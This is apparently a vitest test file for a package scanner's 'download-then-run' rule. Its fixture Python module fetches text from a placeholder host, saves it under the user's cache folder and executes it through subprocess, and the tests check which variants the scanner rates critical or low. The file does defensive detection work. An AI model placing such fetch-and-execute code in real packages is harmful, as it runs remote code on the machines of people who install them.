import { expect, test } from 'vitest';
import { foundIn } from './linked/found-in.js';

const running = (command: string): Record<string, string> => ({
  'steps/__init__.py': `import subprocess\nimport sys\nfrom pathlib import Path\nimport requests\n\n\ndef fetched(seed):\n    return requests.get("https://steps.example.invalid/" + seed).text\n\n\ndef run(seed):\n    step = Path.home() / ".cache" / "step"\n    step.write_text(fetched(seed))\n    subprocess.run(${command})\n`,
});

test('a small package whose function starts Python with what it has fetched into a file is blocked', async () => {
  expect(await foundIn(running('[sys.executable, str(step)]'), 'download-then-run')).toEqual(['critical steps/__init__.py']);
  expect(await foundIn(running('f"python3 -u {step}"'), 'download-then-run')).toEqual(['critical steps/__init__.py']);
});

test('one that starts a program which it has fetched may keep that up to date, and is only listed', async () => {
  expect(await foundIn(running('[str(step), "--version"]'), 'download-then-run')).toEqual(['low steps/__init__.py']);
});

test('Python that is given a module, or builds what was fetched, runs no fetched script', async () => {
  expect(await foundIn(running('[sys.executable, "-m", "pip", "install", str(step)]'), 'download-then-run')).not.toContain('critical steps/__init__.py');
  expect(await foundIn(running('[sys.executable, str(step / "setup.py"), "build"]'), 'download-then-run')).not.toContain('critical steps/__init__.py');
});
